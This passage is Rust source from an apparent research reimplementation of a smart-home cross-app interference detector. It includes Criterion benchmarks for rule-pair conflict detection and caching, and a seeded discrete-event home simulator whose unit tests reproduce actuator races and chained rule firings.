//! Fig. 9: CAI detection overhead for a pair of rules, per threat kind.
//!
//! The paper reports per-kind detection times on a Galaxy S8, dominated by
//! constraint solving, with EC cheaper than AR/GC (half the constraints)
//! and CT/SD/LT reusing AR's solving result (DC reusing EC's). This bench
//! reproduces the *shape* on representative rule pairs drawn from the
//! paper's own examples, plus the filtering-only fast path.

use criterion::{criterion_group, criterion_main, Criterion};
use hg_bench::corpus_rules;
use hg_detector::{Detector, PreparedRule, VerdictCache};
use std::hint::black_box;
use std::sync::Arc;
use std::time::Instant;

fn pairs() -> Vec<(
    &'static str,
    Vec<hg_rules::rule::Rule>,
    Vec<hg_rules::rule::Rule>,
)> {
    vec![
        // AR: ComfortTV vs ColdDefender (Fig. 3).
        (
            "AR_pair",
            corpus_rules("ComfortTV"),
            corpus_rules("ColdDefender"),
        ),
        // GC: heater-style vs window-style conflict.
        (
            "GC_pair",
            corpus_rules("ItsTooCold"),
            corpus_rules("WindowOrAC"),
        ),
        // CT(+SD): ItsTooHot vs EnergySaver (§III-B).
        (
            "CT_SD_pair",
            corpus_rules("ItsTooHot"),
            corpus_rules("EnergySaver"),
        ),
        // LT: LightUpTheNight against itself-style second app.
        (
            "LT_pair",
            corpus_rules("LightUpTheNight"),
            corpus_rules("SmartNightlight"),
        ),
        // EC/DC: NightCare vs BurglarFinder (Fig. 5).
        (
            "EC_DC_pair",
            corpus_rules("NightCare"),
            corpus_rules("BurglarFinder"),
        ),
        // Unrelated pair: candidate filtering rejects without solving.
        (
            "filtered_pair",
            corpus_rules("KnockKnock"),
            corpus_rules("LeakAlert"),
        ),
    ]
}

fn bench_detection(c: &mut Criterion) {
    let detector = Detector::store_wide();

    // Machine-readable per-pair timings (µs, mean of a fixed batch) for
    // the BENCH_*.json trajectory, measured outside criterion so the
    // summary exists in every run mode.
    let mut summary: Vec<(&str, f64)> = Vec::new();
    for (label, rules_a, rules_b) in pairs() {
        if rules_a.is_empty() || rules_b.is_empty() {
            continue;
        }
        let runs = 60u32;
        let started = Instant::now();
        for _ in 0..runs {
            black_box(detector.detect_pair(black_box(&rules_a[0]), black_box(&rules_b[0])));
        }
        summary.push((label, started.elapsed().as_micros() as f64 / runs as f64));
    }
    hg_bench::emit_summary("fig9_detection_pair_us", &summary);

    let mut group = c.benchmark_group("fig9_detect_pair");
    for (label, rules_a, rules_b) in pairs() {
        if rules_a.is_empty() || rules_b.is_empty() {
            continue;
        }
        group.bench_function(label, |b| {
            b.iter(|| {
                let (threats, stats) =
                    detector.detect_pair(black_box(&rules_a[0]), black_box(&rules_b[0]));
                black_box((threats, stats))
            })
        });
    }
    group.finish();
}

fn bench_verdict_cache(c: &mut Criterion) {
    // The fleet-shared cache's fast path vs. a fresh solve of the same
    // prepared pair: what every home after the first pays for a repeated
    // store-app pair.
    let cache = Arc::new(VerdictCache::new());
    let cached = Detector::store_wide().with_cache(cache.clone());
    let uncached = Detector::store_wide();
    let a = corpus_rules("ComfortTV");
    let b = corpus_rules("ColdDefender");
    let pa = PreparedRule::prepare(&a[0], &cached.unification);
    let pb = PreparedRule::prepare(&b[0], &cached.unification);
    // Warm the entry once.
    let (warm, _) = cached.detect_pair_prepared(&pa, &pb);
    let (truth, _) = uncached.detect_pair_prepared(&pa, &pb);
    assert_eq!(warm, truth, "cached verdict must be bit-identical");

    let mut group = c.benchmark_group("verdict_cache");
    group.bench_function("uncached_pair", |bch| {
        bch.iter(|| black_box(uncached.detect_pair_prepared(&pa, &pb)))
    });
    group.bench_function("cached_pair_hit", |bch| {
        bch.iter(|| black_box(cached.detect_pair_prepared(&pa, &pb)))
    });
    group.finish();
    assert!(cache.stats().hits > 0);
}

fn bench_lowered_vs_solver(c: &mut Criterion) {
    // The three-tier pipeline, tier by tier, on real corpus pairs: a pair
    // the lowered evaluator decides outright, the same pair forced onto
    // the full solver (what every check cost before the lowering tier),
    // a pair the evaluator refuses (so the measured time includes the
    // refusal probe *and* the solver fallback), and a warm verdict-cache
    // hit. Pairs are discovered from the corpus by their recorded tier,
    // not hard-coded, so the bench stays honest as the fragment grows.
    let lowered_det = Detector::store_wide();
    let mut solver_det = Detector::store_wide();
    solver_det.lowered_pairs = false;

    let sets: Vec<Vec<hg_rules::rule::Rule>> = hg_bench::device_control_rule_sets()
        .into_iter()
        .filter(|set| !set.is_empty())
        .collect();
    let prepared: Vec<PreparedRule> = sets
        .iter()
        .map(|set| PreparedRule::prepare(&set[0], &lowered_det.unification))
        .collect();

    // One corpus-wide pairwise sweep: classify every pair by deciding
    // tier and aggregate the honest coverage ratio (every solver-answered
    // question counts against the lowered tier, CT/EC solves included).
    let mut lowered_pair = None;
    let mut fallback_pair = None;
    let mut hits = 0u64;
    let mut fallbacks = 0u64;
    for i in 0..prepared.len() {
        for j in (i + 1)..prepared.len() {
            let (_, stats) = lowered_det.detect_pair_prepared(&prepared[i], &prepared[j]);
            hits += stats.lowered_hits;
            fallbacks += stats.solver_fallbacks;
            if stats.lowered_hits > 0 && stats.solver_fallbacks == 0 && lowered_pair.is_none() {
                lowered_pair = Some((i, j));
            }
            if stats.solver_fallbacks > 0 && fallback_pair.is_none() {
                fallback_pair = Some((i, j));
            }
        }
    }
    let (li, lj) = lowered_pair.expect("corpus must contain a fully lowered pair");
    let (fi, fj) = fallback_pair.expect("corpus must contain a fallback pair");
    let coverage = 100.0 * hits as f64 / (hits + fallbacks) as f64;

    let cache = Arc::new(VerdictCache::new());
    let cached_det = Detector::store_wide().with_cache(cache.clone());
    cached_det.detect_pair_prepared(&prepared[li], &prepared[lj]); // warm

    let time_pair = |det: &Detector, a: &PreparedRule, b: &PreparedRule| {
        let runs = 60u32;
        let started = Instant::now();
        for _ in 0..runs {
            black_box(det.detect_pair_prepared(black_box(a), black_box(b)));
        }
        started.elapsed().as_micros() as f64 / runs as f64
    };
    hg_bench::emit_summary(
        "lowered_vs_solver_us",
        &[
            (
                "lowered_hit_pair",
                time_pair(&lowered_det, &prepared[li], &prepared[lj]),
            ),
            (
                "solver_forced_pair",
                time_pair(&solver_det, &prepared[li], &prepared[lj]),
            ),
            (
                "solver_fallback_pair",
                time_pair(&lowered_det, &prepared[fi], &prepared[fj]),
            ),
            (
                "cache_hit_pair",
                time_pair(&cached_det, &prepared[li], &prepared[lj]),
            ),
            ("corpus_coverage_pct", coverage),
        ],
    );

    let mut group = c.benchmark_group("lowered_vs_solver");
    group.bench_function("lowered_hit", |bch| {
        bch.iter(|| black_box(lowered_det.detect_pair_prepared(&prepared[li], &prepared[lj])))
    });
    group.bench_function("solver_forced", |bch| {
        bch.iter(|| black_box(solver_det.detect_pair_prepared(&prepared[li], &prepared[lj])))
    });
    group.bench_function("solver_fallback", |bch| {
        bch.iter(|| black_box(lowered_det.detect_pair_prepared(&prepared[fi], &prepared[fj])))
    });
    group.bench_function("cache_hit", |bch| {
        bch.iter(|| black_box(cached_det.detect_pair_prepared(&prepared[li], &prepared[lj])))
    });
    group.finish();
    assert!(cache.stats().hits > 0);
}

fn bench_solver_reuse(c: &mut Criterion) {
    // The reuse effect: detect_pair solves the situation overlap once and
    // reuses it across AR/CT/SD/LT, so a full pair detection costs little
    // more than one solve.
    let detector = Detector::store_wide();
    let a = corpus_rules("ComfortTV");
    let b = corpus_rules("ColdDefender");
    let mut group = c.benchmark_group("fig9_reuse");
    group.bench_function("one_solve_direct", |bch| {
        let s1 = a[0].situation();
        let s2 = b[0].situation();
        bch.iter(|| black_box(detector.solver.solve(&[&s1, &s2])))
    });
    group.bench_function("full_pair_all_kinds", |bch| {
        bch.iter(|| black_box(detector.detect_pair(&a[0], &b[0])))
    });
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(30);
    targets = bench_detection, bench_solver_reuse, bench_verdict_cache, bench_lowered_vs_solver
}
criterion_main!(benches);
