//! §VIII-C configuration collection: instrumentation cost and simulated
//! channel latency sampling (SMS vs HTTP).

use criterion::{criterion_group, criterion_main, Criterion};
use hg_config::{instrument, Channel, ConfigInfo, SimulatedChannel, Transport};
use hg_rules::value::Value;
use std::hint::black_box;

fn bench_instrumentation(c: &mut Criterion) {
    let app = hg_corpus::benign_app("ComfortTV").unwrap();
    c.bench_function("instrument_comforttv", |b| {
        b.iter(|| black_box(instrument(app.source, app.name, Transport::Sms).unwrap()))
    });
}

fn bench_uri_roundtrip(c: &mut Criterion) {
    let info = ConfigInfo::new("ComfortTV")
        .bind_device("tv1", "0e0b741baf1c4e6d8f0a1b2c3d4e5f60")
        .set_value("threshold1", Value::from_natural(30));
    c.bench_function("uri_encode_decode", |b| {
        b.iter(|| {
            let uri = info.to_uri();
            black_box(ConfigInfo::from_uri(&uri).unwrap())
        })
    });
}

fn bench_channels(c: &mut Criterion) {
    let uri = ConfigInfo::new("ComfortTV")
        .bind_device("tv1", "0e0b741baf1c4e6d8f0a1b2c3d4e5f60")
        .to_uri();
    let mut group = c.benchmark_group("channel_100_trials");
    for channel in [Channel::Sms, Channel::Http] {
        group.bench_function(format!("{channel:?}"), |b| {
            b.iter(|| {
                let mut ch = SimulatedChannel::new(channel, 7);
                black_box(ch.mean_over(&uri, 100))
            })
        });
    }
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(20);
    targets = bench_instrumentation, bench_uri_roundtrip, bench_channels
}
criterion_main!(benches);
