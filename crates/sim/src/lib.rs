//! # hg-sim — a discrete-event smart-home simulator
//!
//! The paper verifies discovered CAI threats dynamically: the five demo
//! apps are installed together and observed interfering (§VIII-A), and the
//! Fig. 3 Actuator Race is shown to leave the window switch in an
//! unpredictable final state. SmartThings' cloud simulator played that role
//! for the authors; this crate plays it here.
//!
//! The simulator implements the paper's home-automation model (Fig. 1):
//!
//! * **data layer** — [`Device`]s with capability-typed attributes, shared
//!   environment properties (temperature, illuminance, power, ...), and the
//!   location mode;
//! * **control layer** — installed [`Rule`](hg_rules::Rule)s evaluated
//!   against the concrete world on each event;
//! * **physics coupling** — actuator commands move environment properties
//!   per the device-kind goal-effect map, and environment movement feeds
//!   sensor-triggered rules, closing the loop that makes environmental
//!   Covert Triggering observable.
//!
//! Scheduling ties are shuffled by a seeded RNG so Actuator Races reproduce
//! the paper's observed nondeterminism while staying replayable.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod device;
pub mod home;
pub mod mediator;

pub use device::Device;
pub use home::{Home, SimTime, TraceEntry};
pub use mediator::{Decision, Mediator};
