//! The simulated home: environment, devices, event queue and the TCA rule
//! engine. This is HomeGuard's stand-in for the SmartThings simulator the
//! paper uses to verify discovered threats (§VIII-A/§VIII-B).
//!
//! Determinism and nondeterminism: the simulator is driven by a seeded RNG.
//! When several rules fire on the same event, and when several actions land
//! at the same instant, their order is shuffled — reproducing the paper's
//! Fig. 3 observation that an Actuator Race leaves the final switch state
//! unpredictable ("turned on only, turned off only, on then off, off then
//! on").

use crate::device::Device;
use crate::mediator::{Decision, Mediator};
use hg_capability::domains::{EnvProperty, Sign};
use hg_rules::constraint::Formula;
use hg_rules::rule::{ActionSubject, Rule, Trigger};
use hg_rules::value::Value;
use hg_rules::varid::{DeviceRef, VarId};
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::SeedableRng;
use std::collections::BTreeMap;

/// Simulated milliseconds.
pub type SimTime = u64;

/// What happened in the home, for assertions and demos.
#[derive(Debug, Clone, PartialEq)]
pub enum TraceEntry {
    /// A device attribute changed.
    Attr {
        /// When.
        at: SimTime,
        /// Device id.
        device: String,
        /// Attribute name.
        attribute: String,
        /// New value.
        value: Value,
    },
    /// A rule fired (trigger matched, condition held, mediator allowed).
    RuleFired {
        /// When.
        at: SimTime,
        /// Which rule.
        rule: String,
    },
    /// The location mode changed.
    Mode {
        /// When.
        at: SimTime,
        /// New mode.
        mode: String,
    },
    /// An environment property moved.
    Env {
        /// When.
        at: SimTime,
        /// The property.
        property: EnvProperty,
        /// New scaled value.
        value: i64,
    },
}

impl TraceEntry {
    /// When the entry happened.
    pub fn at(&self) -> SimTime {
        match self {
            TraceEntry::Attr { at, .. }
            | TraceEntry::RuleFired { at, .. }
            | TraceEntry::Mode { at, .. }
            | TraceEntry::Env { at, .. } => *at,
        }
    }

    /// The device id, if this is an attribute write.
    pub fn device(&self) -> Option<&str> {
        match self {
            TraceEntry::Attr { device, .. } => Some(device),
            _ => None,
        }
    }

    /// The `(device, attribute, value)` of an attribute write.
    pub fn attr_write(&self) -> Option<(&str, &str, &Value)> {
        match self {
            TraceEntry::Attr {
                device,
                attribute,
                value,
                ..
            } => Some((device, attribute, value)),
            _ => None,
        }
    }

    /// The fired rule's display name, if this is a firing entry.
    pub fn fired_rule(&self) -> Option<&str> {
        match self {
            TraceEntry::RuleFired { rule, .. } => Some(rule),
            _ => None,
        }
    }
}

/// An event waiting in the queue.
#[derive(Debug, Clone)]
enum Pending {
    AttrChanged {
        device: String,
        attribute: String,
        value: Value,
    },
    ModeChanged {
        mode: String,
    },
    RunAction {
        rule_index: usize,
        action_index: usize,
    },
}

/// Per-environment-property drift applied when actuators run (simplified
/// physics: each active effect moves the property a fixed step per event
/// cycle).
const ENV_STEP: i64 = 50; // 0.5 units in scaled fixed-point

/// The simulated home.
pub struct Home {
    /// Virtual clock.
    pub now: SimTime,
    /// Devices by id.
    pub devices: BTreeMap<String, Device>,
    /// Environment property values (scaled).
    pub env: BTreeMap<EnvProperty, i64>,
    /// Current location mode.
    pub mode: String,
    /// Installed rules with their device bindings already resolved
    /// ([`DeviceRef::Bound`] everywhere).
    rules: Vec<Rule>,
    /// Collected user-input values for condition evaluation.
    pub user_values: BTreeMap<(String, String), Value>,
    queue: Vec<(SimTime, Pending)>,
    rng: StdRng,
    /// Everything that happened.
    pub trace: Vec<TraceEntry>,
    /// Cascade guard: events processed in the current `run` call.
    budget: usize,
    /// Inline runtime mediator, consulted before rule firings and actuator
    /// commands when installed.
    mediator: Option<Box<dyn Mediator>>,
}

impl Home {
    /// An empty home with a seeded RNG (same seed → same schedule).
    pub fn new(seed: u64) -> Home {
        let mut env = BTreeMap::new();
        env.insert(EnvProperty::Temperature, 21 * 100);
        env.insert(EnvProperty::Illuminance, 200 * 100);
        env.insert(EnvProperty::Humidity, 50 * 100);
        env.insert(EnvProperty::Power, 300 * 100);
        env.insert(EnvProperty::Noise, 30 * 100);
        Home {
            now: 0,
            devices: BTreeMap::new(),
            env,
            mode: "Home".to_string(),
            rules: Vec::new(),
            user_values: BTreeMap::new(),
            queue: Vec::new(),
            rng: StdRng::seed_from_u64(seed),
            trace: Vec::new(),
            budget: 10_000,
            mediator: None,
        }
    }

    /// Installs an inline runtime mediator. The mediator is consulted for
    /// every rule firing and every actuator command from then on; an
    /// always-allow mediator leaves the simulation bit-for-bit identical to
    /// an unmediated run under the same seed.
    pub fn set_mediator(&mut self, mediator: Box<dyn Mediator>) {
        self.mediator = Some(mediator);
    }

    /// Removes the mediator, returning it.
    pub fn clear_mediator(&mut self) -> Option<Box<dyn Mediator>> {
        self.mediator.take()
    }

    /// Adds a device.
    pub fn add_device(&mut self, device: Device) {
        self.devices.insert(device.id.clone(), device);
    }

    /// Installs a rule (device references must be bound to device ids that
    /// exist in this home).
    pub fn install_rule(&mut self, rule: Rule) {
        self.rules.push(rule);
    }

    /// Number of installed rules.
    pub fn rule_count(&self) -> usize {
        self.rules.len()
    }

    /// Externally forces a device attribute (a user flipping a switch, a
    /// sensor reporting) and runs the event cascade to quiescence.
    pub fn stimulate(&mut self, device: &str, attribute: &str, value: Value) {
        self.queue.push((
            self.now,
            Pending::AttrChanged {
                device: device.to_string(),
                attribute: attribute.to_string(),
                value,
            },
        ));
        self.run();
    }

    /// Changes the location mode externally.
    pub fn set_mode(&mut self, mode: &str) {
        self.queue.push((
            self.now,
            Pending::ModeChanged {
                mode: mode.to_string(),
            },
        ));
        self.run();
    }

    /// Reads a device attribute.
    pub fn attr(&self, device: &str, attribute: &str) -> Option<&Value> {
        self.devices.get(device)?.get(attribute)
    }

    // ----- order-robust trace queries ---------------------------------------

    /// Trace entries that touched `device` (attribute writes), in order.
    ///
    /// The seeded scheduler shuffles same-instant ties, so global trace
    /// positions are fragile across seeds; assertions should filter per
    /// device (or per rule, [`Home::fired_count`]) instead of indexing the
    /// raw trace.
    pub fn trace_for<'a>(&'a self, device: &'a str) -> impl Iterator<Item = &'a TraceEntry> + 'a {
        self.trace
            .iter()
            .filter(move |t| t.device() == Some(device))
    }

    /// The successive values written to `device.attribute`, in write order.
    pub fn attr_history(&self, device: &str, attribute: &str) -> Vec<&Value> {
        self.trace
            .iter()
            .filter_map(|t| t.attr_write())
            .filter(|(d, a, _)| *d == device && *a == attribute)
            .map(|(_, _, v)| v)
            .collect()
    }

    /// Whether `rule` (display form, e.g. `"App#0"`) fired at least once.
    pub fn fired(&self, rule: &str) -> bool {
        self.fired_count(rule) > 0
    }

    /// How many times `rule` (display form) fired.
    pub fn fired_count(&self, rule: &str) -> usize {
        self.trace
            .iter()
            .filter(|t| t.fired_rule() == Some(rule))
            .count()
    }

    /// The successive values an environment property moved through.
    pub fn env_history(&self, property: EnvProperty) -> Vec<i64> {
        self.trace
            .iter()
            .filter_map(|t| match t {
                TraceEntry::Env {
                    property: p, value, ..
                } if *p == property => Some(*value),
                _ => None,
            })
            .collect()
    }

    /// Drains the event queue, processing cascades (rule firings, delayed
    /// actions) until quiescent or the cascade budget is exhausted.
    pub fn run(&mut self) {
        let mut steps = 0;
        while !self.queue.is_empty() {
            steps += 1;
            if steps > self.budget {
                break; // runaway loop (e.g. Loop Triggering) — bounded
            }
            // Pop the earliest event; ties are shuffled for nondeterminism.
            self.queue.sort_by_key(|(t, _)| *t);
            let earliest = self.queue[0].0;
            let tie_count = self
                .queue
                .iter()
                .take_while(|(t, _)| *t == earliest)
                .count();
            let pick = if tie_count > 1 {
                self.rng.next_index(tie_count)
            } else {
                0
            };
            let (at, event) = self.queue.remove(pick);
            self.now = self.now.max(at);
            self.process(event);
        }
    }

    fn process(&mut self, event: Pending) {
        match event {
            Pending::AttrChanged {
                device,
                attribute,
                value,
            } => {
                let Some(dev) = self.devices.get_mut(&device) else {
                    return;
                };
                if dev.set(&attribute, value.clone()).is_none() {
                    return; // no actual change, no event
                }
                self.trace.push(TraceEntry::Attr {
                    at: self.now,
                    device: device.clone(),
                    attribute: attribute.clone(),
                    value: value.clone(),
                });
                self.apply_env_effects(&device, &attribute, &value);
                self.fire_matching_rules(Some((&device, &attribute, &value)), None);
            }
            Pending::ModeChanged { mode } => {
                if self.mode == mode {
                    return;
                }
                self.mode = mode.clone();
                self.trace.push(TraceEntry::Mode {
                    at: self.now,
                    mode: mode.clone(),
                });
                self.fire_matching_rules(None, Some(&mode));
            }
            Pending::RunAction {
                rule_index,
                action_index,
            } => {
                self.perform_action(rule_index, action_index);
            }
        }
    }

    /// Simplified physics: device-kind environment effects move the shared
    /// property one step per state change.
    fn apply_env_effects(&mut self, device: &str, attribute: &str, value: &Value) {
        let Some(dev) = self.devices.get(device) else {
            return;
        };
        // The state change corresponds to the command that caused it; infer
        // the command from the new value where possible.
        let command = match (attribute, value) {
            ("switch", Value::Sym(s)) => s.clone(),
            ("valve", Value::Sym(s)) if s == "open" => "open".into(),
            ("valve", Value::Sym(s)) if s == "closed" => "close".into(),
            ("door", Value::Sym(s)) if s == "open" => "open".into(),
            ("door", Value::Sym(s)) if s == "closed" => "close".into(),
            ("alarm", Value::Sym(s)) => s.clone(),
            _ => return,
        };
        let effects: Vec<(EnvProperty, Sign)> = dev
            .kind
            .goal_effects()
            .iter()
            .filter(|fx| fx.command == command)
            .map(|fx| (fx.property, fx.sign))
            .collect();
        for (prop, sign) in effects {
            let entry = self.env.entry(prop).or_insert(0);
            match sign {
                Sign::Inc => *entry += ENV_STEP,
                Sign::Dec => *entry -= ENV_STEP,
            }
            let value = *entry;
            self.trace.push(TraceEntry::Env {
                at: self.now,
                property: prop,
                value,
            });
            // Environment movement is itself sensed: notify rules triggered
            // by environment-measuring attributes.
            self.fire_env_rules(prop, value);
        }
    }

    /// Fires rules triggered by a device/mode event.
    fn fire_matching_rules(
        &mut self,
        attr_event: Option<(&str, &str, &Value)>,
        mode_event: Option<&str>,
    ) {
        let mut matching: Vec<usize> = Vec::new();
        for (i, rule) in self.rules.iter().enumerate() {
            let fires = match (&rule.trigger, attr_event, mode_event) {
                (
                    Trigger::DeviceEvent {
                        subject,
                        attribute,
                        constraint,
                    },
                    Some((d, a, v)),
                    _,
                ) => {
                    device_id(subject) == Some(d)
                        && attribute == a
                        && constraint
                            .as_ref()
                            .map(|c| self.holds_with_event(c, rule, Some((subject, a, v))))
                            .unwrap_or(true)
                }
                (Trigger::ModeChange { constraint }, _, Some(_)) => constraint
                    .as_ref()
                    .map(|c| self.holds(c, rule))
                    .unwrap_or(true),
                _ => false,
            };
            if fires && self.holds(&rule.condition.predicate, rule) {
                matching.push(i);
            }
        }
        self.schedule_fired(matching);
    }

    /// Fires rules triggered by environment-measured attributes.
    fn fire_env_rules(&mut self, prop: EnvProperty, _value: i64) {
        let mut matching = Vec::new();
        for (i, rule) in self.rules.iter().enumerate() {
            if let Some(var) = rule.trigger.observed_var() {
                if var == VarId::env(prop.name()) {
                    let constraint_ok = rule
                        .trigger
                        .constraint()
                        .map(|c| self.holds(c, rule))
                        .unwrap_or(true);
                    if constraint_ok && self.holds(&rule.condition.predicate, rule) {
                        matching.push(i);
                    }
                }
            }
        }
        self.schedule_fired(matching);
    }

    /// Shuffles the matched rules (same-instant nondeterminism), consults
    /// the mediator for each, and schedules the actions of those allowed to
    /// fire. A [`Decision::Defer`] postpones every action of the firing by
    /// the mediation window; a [`Decision::Suppress`] drops the firing
    /// entirely (no trace entry, no actions).
    fn schedule_fired(&mut self, mut matching: Vec<usize>) {
        matching.shuffle(&mut self.rng);
        for i in matching {
            let decision = match self.mediator.as_mut() {
                Some(m) => m.on_rule_fire(&self.rules[i].id, self.now),
                None => Decision::Allow,
            };
            let extra_ms = match decision {
                Decision::Allow => 0,
                Decision::Defer { delay_ms } => delay_ms,
                Decision::Suppress => continue,
            };
            self.trace.push(TraceEntry::RuleFired {
                at: self.now,
                rule: self.rules[i].id.to_string(),
            });
            for j in 0..self.rules[i].actions.len() {
                let at = self.now + self.rules[i].actions[j].when_secs * 1_000 + extra_ms;
                self.queue.push((
                    at,
                    Pending::RunAction {
                        rule_index: i,
                        action_index: j,
                    },
                ));
            }
        }
    }

    fn perform_action(&mut self, rule_index: usize, action_index: usize) {
        let Some(rule) = self.rules.get(rule_index) else {
            return;
        };
        let Some(action) = rule.actions.get(action_index) else {
            return;
        };
        let action = action.clone();
        match &action.subject {
            ActionSubject::Device(dref) => {
                let Some(id) = device_id(dref).map(str::to_string) else {
                    return;
                };
                // Actuator-command interception point: the mediator can
                // block this command, or push it past the mediation window.
                let decision = match self.mediator.as_mut() {
                    Some(m) => m.on_command(&rule.id, &id, &action.command, self.now),
                    None => Decision::Allow,
                };
                match decision {
                    Decision::Allow => {}
                    Decision::Suppress => return,
                    Decision::Defer { delay_ms } => {
                        self.queue.push((
                            self.now + delay_ms,
                            Pending::RunAction {
                                rule_index,
                                action_index,
                            },
                        ));
                        return;
                    }
                }
                let params: Vec<Value> = action
                    .params
                    .iter()
                    .filter_map(|t| self.eval_term_value(t, rule))
                    .collect();
                let Some(dev) = self.devices.get_mut(&id) else {
                    return;
                };
                let changes = dev.execute(&action.command, &params);
                for (attr, value) in changes {
                    self.trace.push(TraceEntry::Attr {
                        at: self.now,
                        device: id.clone(),
                        attribute: attr.clone(),
                        value: value.clone(),
                    });
                    self.apply_env_effects(&id, &attr, &value);
                    self.fire_matching_rules(Some((&id, &attr, &value)), None);
                }
            }
            ActionSubject::LocationMode => {
                let rule_clone = rule.clone();
                if let Some(Value::Sym(mode)) = action
                    .params
                    .first()
                    .and_then(|t| self.eval_term_value(t, &rule_clone))
                {
                    let at = self.now;
                    self.queue.push((at, Pending::ModeChanged { mode }));
                }
            }
            // Messaging/HTTP/hub actions have no home-state effect.
            _ => {}
        }
    }

    // ----- formula evaluation over the concrete world ---------------------------

    fn holds(&self, f: &Formula, rule: &Rule) -> bool {
        self.holds_with_event(f, rule, None)
    }

    fn holds_with_event(
        &self,
        f: &Formula,
        rule: &Rule,
        event: Option<(&DeviceRef, &str, &Value)>,
    ) -> bool {
        let resolved = f.substitute(&|v| self.resolve_var(v, rule, event));
        !matches!(resolved, Formula::False)
    }

    fn resolve_var(
        &self,
        v: &VarId,
        _rule: &Rule,
        event: Option<(&DeviceRef, &str, &Value)>,
    ) -> Option<Value> {
        match v {
            VarId::DeviceAttr { device, attribute } => {
                if let Some((edev, eattr, evalue)) = event {
                    if device == edev && attribute == eattr {
                        return Some((*evalue).clone());
                    }
                }
                let id = device_id(device)?;
                self.devices.get(id)?.get(attribute).cloned()
            }
            VarId::Env(p) => {
                let prop = EnvProperty::from_name(p)?;
                self.env.get(&prop).map(|n| Value::Num(*n))
            }
            VarId::Mode => Some(Value::Sym(self.mode.clone())),
            VarId::UserInput { app, name } => {
                self.user_values.get(&(app.clone(), name.clone())).cloned()
            }
            // Time, state and opaque sources stay symbolic: treat the atom
            // as satisfiable (permissive, like the paper's simulator runs).
            _ => None,
        }
    }

    fn eval_term_value(&self, t: &hg_rules::constraint::Term, rule: &Rule) -> Option<Value> {
        let substituted = t.substitute(&|v| self.resolve_var(v, rule, None));
        substituted.as_const().cloned()
    }
}

fn device_id(d: &DeviceRef) -> Option<&str> {
    match d {
        DeviceRef::Bound { device_id } => Some(device_id),
        DeviceRef::Unbound { .. } => None,
    }
}

/// Small RNG extension: uniform index in `0..n`.
trait NextIndex {
    fn next_index(&mut self, n: usize) -> usize;
}

impl NextIndex for StdRng {
    fn next_index(&mut self, n: usize) -> usize {
        use rand::Rng;
        self.gen_range(0..n)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hg_capability::device_kind::DeviceKind;
    use hg_rules::constraint::{CmpOp, Term};
    use hg_rules::rule::{Action, Condition, RuleId};

    fn bound(id: &str) -> DeviceRef {
        DeviceRef::bound(id)
    }

    fn simple_rule(
        id: &str,
        trig_dev: &str,
        attr: &str,
        val: &str,
        act_dev: &str,
        cmd: &str,
    ) -> Rule {
        Rule {
            id: RuleId::new(id, 0),
            trigger: Trigger::DeviceEvent {
                subject: bound(trig_dev),
                attribute: attr.into(),
                constraint: Some(Formula::var_eq(
                    VarId::device_attr(bound(trig_dev), attr),
                    Value::sym(val),
                )),
            },
            condition: Condition::always(),
            actions: vec![Action::device(bound(act_dev), cmd)],
        }
    }

    fn home_with_lamp_and_motion() -> Home {
        home_with_lamp_and_motion_seeded(42)
    }

    fn home_with_lamp_and_motion_seeded(seed: u64) -> Home {
        let mut h = Home::new(seed);
        h.add_device(Device::new(
            "motion-1",
            "Hall motion",
            "motionSensor",
            DeviceKind::Unknown,
        ));
        let mut lamp = Device::new("lamp-1", "Hall lamp", "switch", DeviceKind::Light);
        lamp.set("switch", Value::sym("off"));
        h.add_device(lamp);
        h
    }

    #[test]
    fn rule_fires_on_stimulus() {
        let mut h = home_with_lamp_and_motion();
        h.install_rule(simple_rule(
            "MotionLight",
            "motion-1",
            "motion",
            "active",
            "lamp-1",
            "on",
        ));
        h.stimulate("motion-1", "motion", Value::sym("active"));
        assert_eq!(h.attr("lamp-1", "switch"), Some(&Value::sym("on")));
        assert!(h.fired("MotionLight#0"));
        assert_eq!(h.fired_count("MotionLight#0"), 1);
    }

    #[test]
    fn trigger_value_constraint_gates_firing() {
        let mut h = home_with_lamp_and_motion();
        h.install_rule(simple_rule(
            "MotionLight",
            "motion-1",
            "motion",
            "active",
            "lamp-1",
            "on",
        ));
        h.stimulate("motion-1", "motion", Value::sym("inactive"));
        assert_eq!(h.attr("lamp-1", "switch"), Some(&Value::sym("off")));
    }

    #[test]
    fn condition_evaluated_against_world() {
        let mut h = home_with_lamp_and_motion();
        let mut rule = simple_rule("NightLight", "motion-1", "motion", "active", "lamp-1", "on");
        rule.condition = Condition {
            data_constraints: vec![],
            predicate: Formula::var_eq(VarId::Mode, Value::sym("Night")),
        };
        h.install_rule(rule);
        h.stimulate("motion-1", "motion", Value::sym("active"));
        assert_eq!(
            h.attr("lamp-1", "switch"),
            Some(&Value::sym("off")),
            "mode is Home"
        );
        h.set_mode("Night");
        h.stimulate("motion-1", "motion", Value::sym("inactive"));
        h.stimulate("motion-1", "motion", Value::sym("active"));
        assert_eq!(h.attr("lamp-1", "switch"), Some(&Value::sym("on")));
    }

    #[test]
    fn chained_execution_cascades() {
        // Rule A: motion -> tv on. Rule B: tv on -> lamp on (covert chain).
        let mut h = home_with_lamp_and_motion();
        let mut tv = Device::new("tv-1", "TV", "switch", DeviceKind::Tv);
        tv.set("switch", Value::sym("off"));
        h.add_device(tv);
        h.install_rule(simple_rule(
            "A", "motion-1", "motion", "active", "tv-1", "on",
        ));
        h.install_rule(simple_rule("B", "tv-1", "switch", "on", "lamp-1", "on"));
        h.stimulate("motion-1", "motion", Value::sym("active"));
        assert_eq!(h.attr("lamp-1", "switch"), Some(&Value::sym("on")));
    }

    #[test]
    fn actuator_race_outcome_varies_with_seed() {
        // Two rules race on the same lamp from the same trigger: across
        // seeds both final states occur (the paper's Fig. 3 experiment).
        let mut outcomes = std::collections::BTreeSet::new();
        for seed in 0..32 {
            let mut h = home_with_lamp_and_motion_seeded(seed);
            h.install_rule(simple_rule(
                "OnApp", "motion-1", "motion", "active", "lamp-1", "on",
            ));
            h.install_rule(simple_rule(
                "OffApp", "motion-1", "motion", "active", "lamp-1", "off",
            ));
            h.stimulate("motion-1", "motion", Value::sym("active"));
            outcomes.insert(h.attr("lamp-1", "switch").cloned());
        }
        assert!(
            outcomes.len() > 1,
            "race should be nondeterministic, got {outcomes:?}"
        );
